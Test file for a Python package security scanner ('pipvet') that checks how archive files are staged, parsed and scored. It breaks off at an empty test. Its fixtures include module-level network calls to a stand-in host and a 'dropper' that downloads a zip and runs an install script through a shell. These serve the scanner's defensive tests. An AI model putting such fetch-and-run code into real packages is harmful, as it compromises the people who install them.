"""The engine: classification, parsing fallbacks, package facts, and what rules receive."""

from __future__ import annotations

import ast
import io
import tarfile
import zipfile
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from pipvet.analysis.classify import detect_layout, kind_of, stage_of, with_backend
from pipvet.analysis.context import FileContext, FileKind, PackageContext
from pipvet.analysis.engine import Analysis, analyze, analyze_bytes, decode
from pipvet.analysis.limits import Limits
from pipvet.analysis.metadata import parse_core_metadata, split_filename
from pipvet.analysis.parsing import parse_python
from pipvet.models import Finding, Severity, Stage, Verdict


def make_sdist(files: Mapping[str, bytes | str], top: str = "demo-1.0") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tf:
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"{top}/{name}" if top else name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def make_wheel(files: dict[str, bytes | str], tag: str = "py3-none-any") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in files.items():
            zf.writestr(name, content)
        zf.writestr("demo-1.0.dist-info/WHEEL", f"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: {tag}\n")
        zf.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: Demo\nVersion: 1.0\n")
    return buffer.getvalue()


@dataclass
class Recorder:
    """A test-only rule: records what it was given and flags files containing a marker."""

    id: str = "TEST-RECORD"
    title: str = "test rule"
    severity: Severity = Severity.HIGH
    rationale: str = "records contexts for the tests"
    seen: list[tuple[FileContext, PackageContext]] = field(default_factory=list)

    def check(self, file: FileContext, package: PackageContext) -> Iterable[Finding]:
        self.seen.append((file, package))
        if file.text is not None and "MARKER" in file.text:
            yield Finding(
                rule=self.id,
                severity=self.severity,
                title=self.title,
                message="marker found",
                line=file.text[: file.text.index("MARKER")].count("\n") + 1,
                evidence="MARKER",
            )

    def by_path(self) -> dict[str, FileContext]:
        return {f.path: f for f, _ in self.seen}


class TreeWanter(Recorder):
    """Touches every tree, as AST rules do."""

    def check(self, file: FileContext, package: PackageContext) -> Iterable[Finding]:
        _ = file.tree
        return super().check(file, package)


class Exploding:
    id = "TEST-BOOM"
    title = "always fails"
    severity = Severity.LOW
    rationale = "a buggy rule"

    def check(self, file: FileContext, package: PackageContext) -> Iterable[Finding]:
        raise RuntimeError("bug in rule")


def run(data: bytes, filename: str, *rules: object) -> Analysis:
    return analyze_bytes(data, filename, rules=list(rules))  # type: ignore[arg-type]


# --------------------------------------------------------------------------- stages and kinds


def test_sdist_stages() -> None:
    rec = Recorder()
    run(
        make_sdist(
            {
                "setup.py": "from setuptools import setup\nsetup()\n",
                "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
                "demo/__init__.py": "x = 1\n",
                "demo/core.py": "def f(): pass\n",
                "demo/sub/__init__.py": "",
                "toplevel.py": "y = 2\n",
                "conftest.py": "",
                "sitecustomize.py": "import os\n",
                "src/other.pth": "import os\n",
                "README.md": "# demo\n",
                "demo.egg-info/PKG-INFO": "Name: demo\n",
            }
        ),
        "demo-1.0.tar.gz",
        rec,
    )
    got = {p.removeprefix("demo-1.0/"): (f.kind, f.stage) for p, f in rec.by_path().items()}
    assert got == {
        "setup.py": (FileKind.PYTHON, Stage.INSTALL),
        "PKG-INFO": (FileKind.METADATA, Stage.METADATA),
        "demo/__init__.py": (FileKind.PYTHON, Stage.IMPORT),
        "demo/core.py": (FileKind.PYTHON, Stage.RUNTIME),
        "demo/sub/__init__.py": (FileKind.PYTHON, Stage.IMPORT),
        "toplevel.py": (FileKind.PYTHON, Stage.IMPORT),
        "conftest.py": (FileKind.PYTHON, Stage.RUNTIME),
        "sitecustomize.py": (FileKind.PYTHON, Stage.STARTUP),
        "src/other.pth": (FileKind.PTH, Stage.STARTUP),
        "README.md": (FileKind.TEXT, Stage.DATA),
        "demo.egg-info/PKG-INFO": (FileKind.METADATA, Stage.METADATA),
    }


def test_a_script_setup_py_starts_with_the_interpreter_runs_at_install() -> None:
    rec = Recorder()
    run(
        make_sdist(
            {
                "setup.py": (
                    "import os, subprocess, sys\nfrom setuptools import setup\n"
                    "subprocess.Popen([sys.executable, os.path.join('demo', 'engine.py')])\n"
                    "subprocess.check_call(['make', '-C', 'docs'])  # 'conf.py' is not started\n"
                    "from setuptools.command.build_ext import build_ext\n"
                    "class Build(build_ext):\n"
                    "    def run(self):\n"
                    "        subprocess.check_call([sys.executable, 'bazelisk.py', 'build'])\n"
                    "setup(cmdclass={'build_ext': Build})\n"
                ),
                "demo/__init__.py": "",
                "demo/engine.py": "x = 1\n",
                "docs/conf.py": "y = 2\n",
                "bazelisk.py": "z = 3\n",
            }
        ),
        "demo-1.0.tar.gz",
        rec,
    )
    got = {p.removeprefix("demo-1.0/"): f.stage for p, f in rec.by_path().items()}
    assert got["demo/engine.py"] is Stage.INSTALL
    assert got["docs/conf.py"] is not Stage.INSTALL
    # a build command's build tool is judged as a build step, not as install code
    assert got["bazelisk.py"] is not Stage.INSTALL


def test_wheel_stages() -> None:
    rec = Recorder()
    run(
        make_wheel(
            {
                "demo/__init__.py": "x = 1\n",
                "demo/util.py": "def f(): pass\n",
                "demo_init.pth": "import demo\n",
                "demo/nested.pth": "import os\n",
                "demo-1.0.data/purelib/evil.pth": "import os\n",
                "demo-1.0.data/scripts/tool.py": "print(1)\n",
                "setup.py": "print('not run from a wheel')\n",
                "demo/lib.so": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
                "demo/model.pkl": b"\x80\x04\x95" + b"\0" * 20,
                "demo/logo.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 20,
            }
        ),
        "demo-1.0-py3-none-any.whl",
        rec,
    )
    got = {p: (f.kind, f.stage) for p, f in rec.by_path().items()}
    # ``import demo`` in a start-up .pth: the package's __init__ runs at every start-up
    assert got["demo/__init__.py"] == (FileKind.PYTHON, Stage.STARTUP)
    assert got["demo/util.py"] == (FileKind.PYTHON, Stage.RUNTIME)
    assert got["demo_init.pth"] == (FileKind.PTH, Stage.STARTUP)
    assert got["demo/nested.pth"] == (FileKind.PTH, Stage.DATA)
    assert got["demo-1.0.data/purelib/evil.pth"] == (FileKind.PTH, Stage.STARTUP)
    assert got["demo-1.0.data/scripts/tool.py"] == (FileKind.PYTHON, Stage.RUNTIME)
    assert got["setup.py"] == (FileKind.PYTHON, Stage.IMPORT)  # a top-level module of a wheel
    assert got["demo/lib.so"] == (FileKind.NATIVE, Stage.DATA)
    assert got["demo/model.pkl"] == (FileKind.PICKLE, Stage.DATA)
    assert got["demo/logo.png"] == (FileKind.MEDIA, Stage.DATA)
    assert got["demo-1.0.dist-info/WHEEL"] == (FileKind.METADATA, Stage.METADATA)


def test_a_module_a_pth_line_loads_by_name_runs_at_start_up() -> None:
    rec = Recorder()
    run(
        make_wheel(
            {
                "_jt_hook.py": "def go(): pass\n",
                "other.py": "x = 1\n",
                "jt.pth": "import os; __import__('_jt_hook').go()\n",
            }
        ),
        "demo-1.0-py3-none-any.whl",
        rec,
    )
    got = {p: f.stage for p, f in rec.by_path().items()}
    assert got["_jt_hook.py"] is Stage.STARTUP
    assert got["other.py"] is Stage.IMPORT


def test_in_tree_build_backend_is_install_time() -> None:
    rec = Recorder()
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_custom_build"]\n'
    run(
        make_sdist(
            {
                "pyproject.toml": pyproject,
                "_custom_build/backend.py": "def build_wheel(*a): pass\n",
                "_custom_build/helpers.py": "import os\n",
                "demo/__init__.py": "",
            }
        ),
        "demo-1.0.tar.gz",
        rec,
    )
    stages = {p.removeprefix("demo-1.0/"): f.stage for p, f in rec.by_path().items()}
    assert stages["_custom_build/backend.py"] is Stage.INSTALL
    assert stages["_custom_build/helpers.py"] is Stage.INSTALL
    assert stages["demo/__init__.py"] is Stage.IMPORT


@pytest.mark.parametrize(
    ("pyproject", "hook"),
    [
        (
            '[build-system]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n',
            "hatch_build.py",
        ),
        (
            '[build-system]\nbuild-backend = "hatchling.build"\n'
            '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n',
            "tools/hook.py",
        ),
        (
            '[build-system]\nbuild-backend = "poetry.core.masonry.api"\n'
            '[tool.poetry.build]\nscript = "build.py"\n',
            "build.py",
        ),
        ('[build-system]\nbuild-backend = "pdm.backend"\n', "pdm_build.py"),
    ],
)
def test_build_hooks_that_the_backend_runs_are_install_time(pyproject: str, hook: str) -> None:
    rec = Recorder()
    files = {
        "pyproject.toml": pyproject,
        hook: "def initialize(*a): pass\n",
        "other.py": "",
        "demo/__init__.py": "",
    }
    run(make_sdist(files), "demo-1.0.tar.gz", rec)
    stages = {p.removeprefix("demo-1.0/"): f.stage for p, f in rec.by_path().items()}
    assert stages[hook] is Stage.INSTALL
    assert stages["other.py"] is not Stage.INSTALL
    plain = {"pyproject.toml": '[build-system]\nbuild-backend = "hatchling.build"\n', "hatch_build.py": ""}
    run(make_sdist(plain), "demo-1.0.tar.gz", rec := Recorder())
    assert rec.by_path()["demo-1.0/hatch_build.py"].stage is not Stage.INSTALL


@pytest.mark.parametrize(
    "declared",
    [
        {
            "pyproject.toml": '[project]\nname = "demo"\n'
            '[tool.setuptools.cmdclass]\nbuild_py = "demo.hooks.BuildPy"\n'
        },
        {"setup.cfg": "[metadata]\nname = demo\n[options]\ncmdclass =\n    install = demo.hooks.BuildPy\n"},
    ],
)
def test_command_classes_named_in_configuration_run_at_install(declared: dict[str, str]) -> None:
    """setuptools imports the command classes pyproject.toml's [tool.setuptools.cmdclass] or
    setup.cfg's cmdclass name, and runs them while it builds."""
    rec = Recorder()
    files = {**declared, "demo/__init__.py": "", "demo/hooks.py": "X = 1\n", "demo/other.py": ""}
    run(make_sdist(files), "demo-1.0.tar.gz", rec)
    stages = {p.removeprefix("demo-1.0/"): f.stage for p, f in rec.by_path().items()}
    assert stages["demo/hooks.py"] is Stage.INSTALL
    assert stages["demo/other.py"] is not Stage.INSTALL


def test_backend_path_dot_marks_only_the_backend_package() -> None:
    layout = with_backend(detect_layout(["p/pyproject.toml", "p/x.py"]), "build_me.api:backend", ["."])
    assert stage_of("p/build_me/api.py", FileKind.PYTHON, layout) is Stage.INSTALL
    assert stage_of("p/build_me/__init__.py", FileKind.PYTHON, layout) is Stage.INSTALL
    assert stage_of("p/build_me/other.py", FileKind.PYTHON, layout) is Stage.RUNTIME
    assert stage_of("p/demo/core.py", FileKind.PYTHON, layout) is Stage.RUNTIME


@pytest.mark.parametrize(
    ("path", "data", "kind"),
    [
        ("a/x.py", b"print(1)", FileKind.PYTHON),
        ("bin/tool", b"#!/usr/bin/env python3\nprint(1)\n", FileKind.PYTHON),
        ("bin/run", b"#!/bin/sh\necho hi\n", FileKind.TEXT),
        ("a/payload.dat", b"MZ\x90\x00" + b"\0" * 10, FileKind.NATIVE),
        ("a/model.pth", b"PK\x03\x04rest", FileKind.PICKLE),
        ("a/sound.bin", b"RIFF\0\0\0\0WAVEfmt ", FileKind.MEDIA),
        ("a/blob", b"\x00\x01\x02\xff", FileKind.BINARY),
        ("a/mod.pyc", b"\xa7\r\r\n\0\0", FileKind.BINARY),
        ("a/x.egg-info/requires.txt", b"requests\n", FileKind.METADATA),
    ],
)
def test_kind_of(path: str, data: bytes, kind: FileKind) -> None:
    assert kind_of(path, data) is kind


# --------------------------------------------------------------------------- parsing


def test_python2_and_syntax_errors_fall_back_to_text_and_are_reported() -> None:
    rec = TreeWanter()
    analysis = run(
        make_sdist(
            {
                "setup.py": "print 'hello from python 2'\nMARKER\n",
                "demo/__init__.py": "def broken(:\n",
                "demo/ok.py": "x = 1\n",
            }
        ),
        "demo-1.0.tar.gz",
        rec,
    )
    files = rec.by_path()
    setup = files["demo-1.0/setup.py"]
    assert setup.tree is None
    assert setup.parse_error
    assert "line 1" in setup.parse_error
    assert setup.text is not None
    assert "python 2" in setup.text
    assert files["demo-1.0/demo/ok.py"].tree is not None
    assert files["demo-1.0/demo/ok.py"].parse_error is None
    assert set(analysis.unparsed) == {"demo-1.0/setup.py", "demo-1.0/demo/__init__.py"}
    info = next(f for f in analysis.result.findings if f.rule == "PV-ENGINE-UNPARSED")
    assert info.severity is Severity.INFO
    assert "2 Python files" in info.title
    assert "setup.py" in (info.evidence or "")
    # the text-level rule still saw the Python 2 file
    assert any(f.rule == "TEST-RECORD" and f.path == "demo-1.0/setup.py" for f in analysis.result.findings)


def test_files_no_rule_parses_are_not_parsed_or_reported() -> None:
    rec = Recorder()  # never touches .tree
    analysis = run(make_sdist({"demo/__init__.py": "def broken(:\n"}), "demo-1.0.tar.gz", rec)
    assert analysis.unparsed == ()
    file = rec.by_path()["demo-1.0/demo/__init__.py"]
    assert not file.parsed
    assert file.parse_error is not None  # parsed on demand, once
    assert file.parsed


def test_a_files_tree_and_memo_are_let_go_once_every_rule_has_seen_it() -> None:
    """Trees are held one file at a time (aws-cdk-lib's generated modules, all held at once,
    took 5.5 GB); a released tree is parsed again if asked for, a failed parse stays failed."""
    rec = TreeWanter()
    files = {"demo/__init__.py": "import os\n", "demo/core.py": "x = 1\n", "demo/bad.py": "def broken(:\n"}
    analysis = run(make_sdist(files), "demo-1.0.tar.gz", rec)
    seen = rec.by_path()
    core = seen["demo-1.0/demo/core.py"]
    assert not core.parsed
    assert core.cache == {}
    assert core.tree is not None  # parsed again on demand
    assert analysis.unparsed == ("demo-1.0/demo/bad.py",)
    assert seen["demo-1.0/demo/bad.py"].parse_error is not None


def test_tests_and_docs_get_text_rules_only() -> None:
    rec = TreeWanter()
    analysis = run(
        make_sdist(
            {
                "tests/test_x.py": "import os\nMARKER\n",
                "docs/conf.py": "MARKER = 1\n",
                "examples/run.py": "MARKER\n",
                "scripts/cmd.py": "MARKER\n",
                "tools/__init__.py": "",
                "tools/gen.py": "MARKER\n",
                "pkg/__init__.py": "MARKER\n",
            }
        ),
        "demo-1.0.tar.gz",
        rec,
    )
    files = rec.by_path()
    for path in ("tests/test_x.py", "docs/conf.py", "examples/run.py"):
        file = files[f"demo-1.0/{path}"]
        assert file.skimmed
        assert file.tree is None
        assert file.parse_error is None
        assert not file.parsed
    # A folder that is a package (has __init__.py) is code users may import: parsed in full.
    assert not files["demo-1.0/scripts/cmd.py"].skimmed  # may be installed as a command
    assert not files["demo-1.0/tools/gen.py"].skimmed
    assert files["demo-1.0/tools/gen.py"].tree is not None
    assert files["demo-1.0/pkg/__init__.py"].tree is not None
    assert analysis.unparsed == ()
    marked = {f.path for f in analysis.result.findings if f.rule == "TEST-RECORD"}
    assert "demo-1.0/tests/test_x.py" in marked  # text-level rules still read them


def test_parse_is_bounded_and_never_raises() -> None:
    tree, error = parse_python("x = 1\n" * 10, "big.py", Limits(max_parse_chars=20))
    assert tree is None
    assert error is not None
    assert "too large" in error
    tree, error = parse_python("(" * 5000 + ")" * 5000, "deep.py", Limits())
    assert tree is None
    assert error is not None
    tree, error = parse_python("a = '\0'\0", "nul.py", Limits())
    assert tree is None
    assert error is not None
    tree, error = parse_python("s = '\\d'\n", "warn.py", Limits())  # invalid escape: no warning leaks
    assert isinstance(tree, ast.Module)
    assert error is None


def test_decode_honours_coding_cookie_and_bom() -> None:
    assert decode("# -*- coding: latin-1 -*-\nx = 'é'\n".encode("latin-1"), python=True).endswith("'é'\n")
    assert decode(b"\xef\xbb\xbfx = 1\n") == "x = 1\n"
    assert "\ufffd" in decode(b"x = '\xff'\n")


def test_truncated_python_file_is_not_parsed() -> None:
    rec = Recorder()
    data = make_sdist({"demo/big.py": "x = 1\n" * 100})
    analyze_bytes(data, "demo-1.0.tar.gz", rules=[rec], limits=Limits(max_code_read=50))
    file = rec.by_path()["demo-1.0/demo/big.py"]
    assert file.size == 600
    assert len(file.data) == 50
    assert file.tree is None
    assert file.parse_error
    assert "first 50" in file.parse_error


def test_data_read_first_cannot_crowd_code_out_of_the_memory_budget() -> None:
    """Members that are not code share a cap below the archive's total, so kernel sources or
    padding placed before the Python files leave those whole (flashinfer's wheel holds 590 MB of
    CUDA sources and 126 MB of Python)."""
    rec = Recorder()
    files: dict[str, bytes | str] = {f"demo/kernels/k{i}.cu": "// kernel\n" * 100 for i in range(10)}
    files["demo/late.py"] = "x = 1\n" * 100
    limits = Limits(max_total_read=5_000, max_other_read=2_000, head_read=64)
    analyze_bytes(make_sdist(files), "demo-1.0.tar.gz", rules=[rec], limits=limits)
    seen = rec.by_path()
    assert len(seen["demo-1.0/demo/late.py"].data) == 600
    assert seen["demo-1.0/demo/late.py"].tree is not None
    kept = [len(f.data) for p, f in seen.items() if p.endswith(".cu")]
    assert kept[:2] == [1_000, 1_000]  # whole until the data cap is used up
    assert all(n == 64 for n in kept[2:])  # then the head only


# --------------------------------------------------------------------------- package context


def test_package_context_from_sdist_metadata() -> None:
    rec = Recorder()
    analysis = run(
        make_sdist(
            {
                "PKG-INFO": "Metadata-Version: 2.1\nName: Demo_Pkg\nVersion: 2.0\nSummary: hi\n",
                "demo/__init__.py": "",
            },
            top="whatever-9",
        ),
        "renamed.tar.gz",
        rec,
    )
    package = rec.seen[0][1]
    assert (package.name, package.version, package.is_wheel, package.pure_python) == (
        "Demo_Pkg",
        "2.0",
        False,
        True,
    )
    assert package.metadata["summary"] == "hi"
    assert package.filename == "renamed.tar.gz"
    assert "whatever-9/PKG-INFO" in package.members
    assert analysis.result.package is not None
    assert analysis.result.package.name == "demo-pkg"
    assert analysis.result.artifact is not None
    assert analysis.result.artifact.filename == "renamed.tar.gz"


def test_package_context_from_wheel_tags() -> None:
    rec = Recorder()
    run(
        make_wheel({"demo/__init__.py": ""}, tag="cp311-cp311-manylinux_2_17_x86_64"),
        "demo-1.0-cp311.whl",
        rec,
    )
    package = rec.seen[0][1]
    assert package.is_wheel
    assert not package.pure_python
    assert (package.name, package.version) == ("Demo", "1.0")


@pytest.mark.parametrize(
    "files",
    [
        {"demo/_speed.c": "int x;"},
        {"setup.py": "from setuptools import setup, Extension\nsetup(ext_modules=[Extension('a', ['a.c'])])"},
        {"pyproject.toml": '[build-system]\nrequires = ["maturin>=1"]\nbuild-backend = "maturin"\n'},
    ],
)
def test_sdist_with_compiled_code_is_not_pure(files: dict[str, bytes | str]) -> None:
    rec = Recorder()
    run(make_sdist({**files, "demo/__init__.py": ""}), "demo-1.0.tar.gz", rec)
    assert rec.seen[0][1].pure_python is False


def test_name_and_version_fall_back_to_the_file_name() -> None:
    assert split_filename("foo_bar-1.2.3-py3-none-any.whl") == ("foo_bar", "1.2.3")
    assert split_filename("foo-bar-1.2.3.tar.gz") == ("foo-bar", "1.2.3")
    assert split_filename("weird.zip") == ("weird", None)
    meta = parse_core_metadata("Name: x\nClassifier: a\nClassifier: b\nDescription: one\n  two\n\nbody: no\n")
    assert meta == {"name": "x", "classifier": "a\nb", "description": "one\ntwo"}


# --------------------------------------------------------------------------- rules and verdicts


def test_rules_get_every_file_and_findings_get_path_and_stage() -> None:
    rec = Recorder()
    analysis = run(make_sdist({"setup.py": "import os\nMARKER = 1\n", "a.txt": "no"}), "demo-1.0.tar.gz", rec)
    assert sorted(rec.by_path()) == ["demo-1.0/a.txt", "demo-1.0/setup.py"]
    finding = next(f for f in analysis.result.findings if f.rule == "TEST-RECORD")
    assert finding.path == "demo-1.0/setup.py"
    assert finding.stage is Stage.INSTALL
    assert finding.line == 2
    assert finding.score > 0
    assert analysis.result.verdict is not Verdict.CLEAN


def test_a_failing_rule_does_not_hide_the_rest() -> None:
    rec = Recorder()
    analysis = run(make_sdist({"setup.py": "MARKER\n"}), "demo-1.0.tar.gz", Exploding(), rec)
    rules = {f.rule for f in analysis.result.findings}
    assert {"TEST-RECORD", "PV-ENGINE-RULE-FAILED"} <= rules
    assert analysis.result.verdict is not Verdict.CLEAN


def test_no_rules_clean_result_has_artifact_hash(tmp_path: Path) -> None:
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(make_sdist({"setup.py": "from setuptools import setup\nsetup()\n"}))
    analysis = analyze(path, rules=[])
    assert analysis.result.verdict is Verdict.CLEAN
    assert analysis.result.target == str(path)
    assert analysis.result.artifact is not None
    assert analysis.result.artifact.size == path.stat().st_size
    assert analysis.files == 1
    assert analysis.python_files == 1


def test_folder_and_single_file_targets(tmp_path: Path) -> None:
    folder = tmp_path / "demo"
    (folder / "demo").mkdir(parents=True)
    (folder / "setup.py").write_text("MARKER\n")
    (folder / "demo" / "__init__.py").write_text("")
    rec = Recorder()
    analysis = analyze(folder, rules=[rec])
    assert analysis.format == "folder"
    assert analysis.result.artifact is None
    assert rec.by_path()["setup.py"].stage is Stage.INSTALL
    single = analyze(folder / "setup.py", rules=[Recorder()])
    assert single.format == "file"
    assert single.result.verdict is not Verdict.CLEAN


def test_engine_failure_is_an_error_verdict(monkeypatch: pytest.MonkeyPatch) -> None:
    from pipvet.analysis import engine

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("classifier bug")

    monkeypatch.setattr(engine, "_layout", broken)
    result = analyze_bytes(make_sdist({"setup.py": "x = 1\n"}), "demo-1.0.tar.gz", rules=[]).result
    assert result.verdict is Verdict.ERROR
    assert result.error is not None
    assert "classifier bug" in result.error
    assert [f.rule for f in result.findings] == ["PV-ENGINE-FAILED"]


class Crawler:
    """A rule stuck in a loop, as a pathological regex on a crafted file would be."""

    id = "TEST-CRAWL"
    title = "never ends"
    severity = Severity.LOW
    rationale = "stands in for catastrophic backtracking"

    def check(self, file: FileContext, package: PackageContext) -> Iterable[Finding]:
        while True:
            try:
                pass
            except Exception:  # a broad handler must not swallow the timeout
                continue


def test_runaway_rule_is_stopped_and_fails_closed() -> None:
    data = make_sdist({"setup.py": "x = 1\n", "demo/__init__.py": ""})
    result = analyze_bytes(data, "demo-1.0.tar.gz", rules=[Crawler()], limits=Limits(max_seconds=0.3)).result
    assert result.verdict is Verdict.ERROR
    assert result.error is not None
    assert "exceeded" in result.error
    timeout = next(f for f in result.findings if f.rule == "PV-ENGINE-TIMEOUT")
    assert timeout.path == "demo-1.0/setup.py"


def _import_time(files: Mapping[str, bytes | str]) -> set[str]:
    """Paths whose module-level network call counts as import time (PV-IMP-001)."""
    from pipvet.analysis.rules.imports import RULES as IMPORT_RULES

    analysis = run(make_sdist(files), "demo-1.0.tar.gz", *IMPORT_RULES)
    return {f.path or "" for f in analysis.result.findings if f.stage is Stage.IMPORT}


_PHONE = "import urllib.request\nurllib.request.urlopen('http://x.invalid/')\n"


def test_a_program_named_in_a_function_nothing_calls_on_import_is_run_time() -> None:
    """mitmproxy-windows names its WinDivert driver next to ``subprocess.run`` inside
    ``executable_path()``: the driver is used when that function is called, not on import; a
    loader called from the module's own top level still runs on import."""
    pe = b"MZ\x90\x00" + b"\0" * 60
    helper = (
        "import subprocess\n"
        "def executable_path():\n"
        "    subprocess.run(['cargo', 'build'])\n"
        "    for f in ['WinDivert64.sys']:\n"
        "        pass\n"
    )
    rec = Recorder()
    run(
        make_wheel({"demo/__init__.py": helper, "demo/WinDivert64.sys": pe}), "demo-1.0-py3-none-any.whl", rec
    )
    assert rec.by_path()["demo/WinDivert64.sys"].stage is not Stage.IMPORT
    rec = Recorder()
    called = helper + "executable_path()\n"
    run(
        make_wheel({"demo/__init__.py": called, "demo/WinDivert64.sys": pe}), "demo-1.0-py3-none-any.whl", rec
    )
    assert rec.by_path()["demo/WinDivert64.sys"].stage is Stage.IMPORT


def test_sdist_folders_setuptools_does_not_install_do_not_run_on_import() -> None:
    listed = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "tool/__init__.py": _PHONE,
        "other/exploit.py": _PHONE,
        "tool.egg-info/top_level.txt": "tool\n",
    }
    assert _import_time(listed) == {"demo-1.0/tool/__init__.py"}
    # without top_level.txt a first-level folder may be a namespace package: assume it loads
    unlisted = {k: v for k, v in listed.items() if not k.endswith("top_level.txt")}
    assert _import_time(unlisted) == {"demo-1.0/tool/__init__.py", "demo-1.0/other/exploit.py"}


def test_plain_folders_load_only_where_the_build_backend_may_install_them() -> None:
    files = {
        "pyproject.toml": '[build-system]\nbuild-backend = "hatchling.build"\n',
        "demo/__init__.py": _PHONE,
        "web/scripts/__init__.py": _PHONE,  # a package inside a plain folder: the website's
        "cmake/fetch.py": _PHONE,
    }
    assert _import_time(files) == {"demo-1.0/demo/__init__.py"}
    # named in the backend's configuration: installed
    configured = {**files, "pyproject.toml": files["pyproject.toml"] + '[tool.x]\npackages = ["cmake"]\n'}
    assert _import_time(configured) == {"demo-1.0/demo/__init__.py", "demo-1.0/cmake/fetch.py"}
    # setuptools (or a setup.py) may find namespace packages: assume they load
    with_setup = {**files, "setup.py": "from setuptools import setup\nsetup()\n"}
    assert len(_import_time(with_setup)) == 3


def test_lone_top_level_modules_load_only_where_the_build_backend_may_install_them() -> None:
    """pytest-httpserver's poetry sdist ships example.py at its root; poetry installs only the
    package (and what its configuration names), so the example's module-level request is not
    import-time code. setuptools may list it in py_modules."""
    files = {
        "pyproject.toml": '[build-system]\nbuild-backend = "poetry.core.masonry.api"\n',
        "demo/__init__.py": _PHONE,
        "example.py": _PHONE,
    }
    assert _import_time(files) == {"demo-1.0/demo/__init__.py"}
    named = {**files, "pyproject.toml": files["pyproject.toml"] + '[tool.poetry]\ninclude = ["example.py"]\n'}
    assert _import_time(named) == {"demo-1.0/demo/__init__.py", "demo-1.0/example.py"}
    with_setup = {**files, "setup.py": "from setuptools import setup\nsetup()\n"}
    assert len(_import_time(with_setup)) == 2


def test_findings_in_sdist_files_no_build_installs_weigh_as_not_run() -> None:
    """pyopengl's sdist keeps maintainer scripts (download a toolkit, unpack it) in a src/
    folder beside its package; setuptools installs only what top_level.txt lists."""
    dropper = (
        "import subprocess, urllib.request\n"
        "def fetch():\n"
        "    urllib.request.urlretrieve('http://x.invalid/t.zip', 't.zip')\n"
        "    subprocess.check_call('unzip t.zip && ./t/install.sh', shell=True)\n"
    )
    installed = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "demo/__init__.py": "",
        "demo/get.py": dropper,
    }
    left = {**installed, "demo.egg-info/top_level.txt": "demo\n", "src/get.py": dropper}
    left.pop("demo/get.py")
    inside = analyze_bytes(make_sdist(installed), "demo-1.0.tar.gz").result
    beside = analyze_bytes(make_sdist(left), "demo-1.0.tar.gz").result
    assert inside.findings
    assert beside.findings
    assert beside.score < inside.score
    weights = {f.rule: f.score for f in inside.findings}
    assert all(f.score < weights[f.rule] for f in beside.findings if f.rule in weights)
    # a file that setup.py names may run while installing: weighed as before
    runs = {**left, "setup.py": "import subprocess, sys\nsubprocess.call([sys.executable, 'src/get.py'])\n"}
    named = analyze_bytes(make_sdist(runs), "demo-1.0.tar.gz").result
    got = {f.rule: f.score for f in named.findings if f.path == "demo-1.0/src/get.py"}
    assert got
    assert all(score >= weights[rule] * 0.8 for rule, score in got.items() if rule in weights)


def test_data_files_outside_every_package_weigh_as_not_run() -> None:
    """frictionless keeps ZIP and gzip fixtures named ``*.csv`` in a top-level ``data/`` folder
    of its sdist; the same archive inside the package is shipped to users, and one that
    setup.py names may be unpacked while installing."""
    hidden = make_wheel({"a.py": "print(1)\n"})
    base = {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": ""}

    def disguised(files: dict[str, bytes | str]) -> list[int]:
        result = analyze_bytes(make_sdist({**base, **files}), "demo-1.0.tar.gz").result
        return [f.score for f in result.findings if f.rule == "PV-ARCHIVE-DISGUISED"]

    [shipped] = disguised({"demo/assets/table.csv": hidden})
    [fixture] = disguised({"data/compression/table.csv": hidden})
    assert fixture < shipped
    unpacked = {"setup.py": "import zipfile\nzipfile.ZipFile('data/compression/table.csv').extractall()\n"}
    assert disguised({"data/compression/table.csv": hidden, **unpacked}) == [shipped]


def test_a_dotted_module_name_never_loads_on_import() -> None:
    files = {"demo/__init__.py": "RUN = 'tables.v2.py'\n", "demo/tables.v2.py": _PHONE}
    assert _import_time(files) == set()


def test_a_submodule_nothing_loads_by_name_does_not_run_on_import() -> None:
    files = {
        "demo/__init__.py": "from . import api\n",
        "demo/api.py": _PHONE,
        "demo/tools/__init__.py": "",
        # a generator script kept in the package: only a comment names it, by its path
        "demo/tools/generate_tables.py": _PHONE,
        "demo/tables.py": "# made by demo/tools/generate_tables.py\nTABLE = {}\n",
        # no import statement can name a module whose file name is no identifier
        "cmake/collect-symbols.py": _PHONE,
        # a wrapper script a module hands to a new interpreter by its file name (choreographer)
        "demo/_wrapper.py": _PHONE,
        "demo/launch.py": "import sys\nfrom pathlib import Path\nW = Path(__file__).parent / '_wrapper.py'\n",
    }
    assert _import_time(files) == {"demo-1.0/demo/api.py"}


def test_a_submodule_loaded_by_name_anywhere_still_runs_on_import() -> None:
    payload = {"demo/__init__.py": "", "demo/_impl/__init__.py": "", "demo/_impl/core.py": _PHONE}
    loaders = {
        "import": {"demo/__init__.py": "from demo._impl.core import run\n"},
        "relative": {"demo/_impl/__init__.py": "from .core import *\n"},
        "importlib": {"demo/__init__.py": "import importlib\nimportlib.import_module('demo._impl.core')\n"},
        "pth": {"demo.pth": "import demo._impl.core\n"},
        "entry point": {"setup.cfg": "[options.entry_points]\nconsole_scripts =\n d = demo._impl.core:m\n"},
    }
    for how, loader in loaders.items():
        assert _import_time({**payload, **loader}) == {"demo-1.0/demo/_impl/core.py"}, how
    # the package itself, top-level modules and modules a framework loads by convention
    own = {"demo/__init__.py": _PHONE, "single.py": _PHONE, "demo/apps.py": _PHONE}
    assert _import_time(own) == {f"demo-1.0/{p}" for p in own}


def test_folders_beside_a_src_layout_are_not_installed() -> None:
